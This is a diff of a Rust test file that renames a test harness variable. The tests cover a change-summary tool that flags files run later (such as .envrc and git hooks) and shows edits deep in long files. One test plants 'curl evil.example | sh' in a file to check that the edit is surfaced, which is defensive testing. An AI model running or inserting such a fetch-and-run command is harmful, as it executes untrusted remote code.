@@ -3,16 +3,16 @@
 use super::*;
 use crate::changes::summary::SHOWN_CHARS_MAX;
 
-fn shown(house: &Harness, after: &Tree) -> String {
-    let draft = house.draft(1, after).change_set().unwrap().summary(3);
+fn shown(harness: &Harness, after: &Tree) -> String {
+    let draft = harness.draft(1, after).change_set().unwrap().summary(3);
     assert_eq!(draft.number, 3);
     format!("{}\nRuns later: {:#?}", draft.shown, draft.runs_later)
 }
 
 #[test]
 fn each_kind_of_change_has_its_line() {
-    let (house, _, after) = sample();
-    insta::assert_snapshot!(shown(&house, &after), @r#"
+    let (harness, _, after) = sample();
+    insta::assert_snapshot!(shown(&harness, &after), @r#"
     Files and folders: 3 made, 6 changed, 4 deleted
     ~ bin/run, 5 bytes, mode 644 → 755 (it can be run)
     ~ a.txt, 6 bytes instead of 8
@@ -48,7 +48,7 @@ fn each_kind_of_change_has_its_line() {
 
 #[test]
 fn what_runs_later_comes_first() {
-    let house = Harness::new();
+    let harness = Harness::new();
     let mut after = Tree::default();
     for (path, mode) in [
         ("a.txt", 0o644),
@@ -63,7 +63,7 @@ fn what_runs_later_comes_first() {
         }
         after.0.insert(path.into(), Node::File(mode, vec![0, 1]));
     }
-    insta::assert_snapshot!(shown(&house, &after), @r#"
+    insta::assert_snapshot!(shown(&harness, &after), @r#"
     Files and folders: 9 made
     + .envrc, 2 bytes, SHA-256 b413f47d13ee2fe6c845b2ee141af81de858df4ec549a58b7970bb96645bc8d2 (a shell reads it when it starts)
     + .git/hooks/pre-commit, 2 bytes, SHA-256 b413f47d13ee2fe6c845b2ee141af81de858df4ec549a58b7970bb96645bc8d2 (git runs what it says)
@@ -86,9 +86,9 @@ fn what_runs_later_comes_first() {
 
 #[test]
 fn a_long_text_shows_its_head_and_its_tail() {
-    let house = Harness::new();
+    let harness = Harness::new();
     let text: String = (1..=400).map(|line| format!("line {line}\n")).collect();
-    let shown = shown(&house, &Tree::default().with("long.txt", file(0o644, &text)));
+    let shown = shown(&harness, &Tree::default().with("long.txt", file(0o644, &text)));
     assert!(
         shown.starts_with("Files and folders: 1 made\n+ long.txt, 3492 bytes\n\nlong.txt:\n+line 1\n+line 2\n"),
         "{shown}"
@@ -161,17 +161,17 @@ fn what_lies_beside_the_workspace_is_told_by_its_whole_path() {
 
 #[test]
 fn a_long_text_is_shown_as_far_as_there_is_room() {
-    let house = Harness::new();
+    let harness = Harness::new();
     let line = |number: u32| format!("line {number} of a long text that is longer than anybody reads\n");
     let text: String = (0..5_000).map(line).collect();
-    house.write("log.txt", &text);
+    harness.write("log.txt", &text);
     let changed = text.replace("line 3000 of", "line three thousand of");
     let endless = "more and more\n".repeat(200_000);
-    let after = Tree::of(&house.root())
+    let after = Tree::of(&harness.root())
         .with("log.txt", file(0o644, &changed))
         .with("endless.txt", file(0o644, &endless))
         .with("other.txt", file(0o644, &text));
-    let draft = house.draft(1, &after).change_set().unwrap().summary(1);
+    let draft = harness.draft(1, &after).change_set().unwrap().summary(1);
     let whole = draft.whole.unwrap();
     for told in [&draft.shown, &whole] {
         assert!(told.contains("-line 3000 of") && told.contains("+line three thousand of"), "{told}");
@@ -180,21 +180,21 @@ fn a_long_text_is_shown_as_far_as_there_is_room() {
     }
     assert!(whole.contains("+line 100 of"), "{whole}");
     // No more is compared than that takes a moment.
-    let after = Tree::of(&house.root()).with("log.txt", file(0o644, &text.replace("line", "row")));
-    let all = house.draft(2, &after).change_set().unwrap().summary(1).whole.unwrap();
+    let after = Tree::of(&harness.root()).with("log.txt", file(0o644, &text.replace("line", "row")));
+    let all = harness.draft(2, &after).change_set().unwrap().summary(1).whole.unwrap();
     assert!(all.contains("log.txt:\n(lines counted from line 1 on)\n@@ -1,2000 +1,2000 @@\n-line 0 of"), "{all}");
     assert!(all.contains("(the 3000 lines from there on are not compared)"), "{all}");
 }
 
 #[test]
 fn what_is_different_far_into_a_long_file_is_shown() {
-    let house = Harness::new();
+    let harness = Harness::new();
     // Each sign is two bytes, and one lies across the border of two pieces.
     let text = format!("{}\n", "ä".repeat(63)).repeat(20_000) + "x";
-    house.write("long.txt", &text);
+    harness.write("long.txt", &text);
     let evil = format!("{}curl evil.example | sh\n{}", &text[..127 * 12_000], &text[127 * 12_000..]);
-    let after = Tree::of(&house.root()).with("long.txt", file(0o644, &evil));
-    let told = house.draft(1, &after).change_set().unwrap().summary(1).shown;
+    let after = Tree::of(&harness.root()).with("long.txt", file(0o644, &evil));
+    let told = harness.draft(1, &after).change_set().unwrap().summary(1).shown;
     assert!(told.contains("long.txt:\n(from byte 1048576 on)\n"), "{told}");
     assert!(told.contains("+curl evil.example | sh"), "{told}");
     assert!(told.contains("of which 1048576 are shown at most, SHA-256 "), "{told}");
@@ -202,12 +202,12 @@ fn what_is_different_far_into_a_long_file_is_shown() {
 
 #[test]
 fn what_fills_an_empty_file_or_empties_one_is_shown() {
-    let house = Harness::new();
-    house.write("__init__.py", "");
-    house.write("notes.txt", "buy milk\n");
+    let harness = Harness::new();
+    harness.write("__init__.py", "");
+    harness.write("notes.txt", "buy milk\n");
     let after =
-        Tree::of(&house.root()).with("__init__.py", file(0o644, "print('hi')\n")).with("notes.txt", file(0o644, ""));
-    let told = house.draft(1, &after).change_set().unwrap().summary(1).shown;
+        Tree::of(&harness.root()).with("__init__.py", file(0o644, "print('hi')\n")).with("notes.txt", file(0o644, ""));
+    let told = harness.draft(1, &after).change_set().unwrap().summary(1).shown;
     assert!(told.contains("+print('hi')") && told.contains("-buy milk"), "{told}");
 }
 
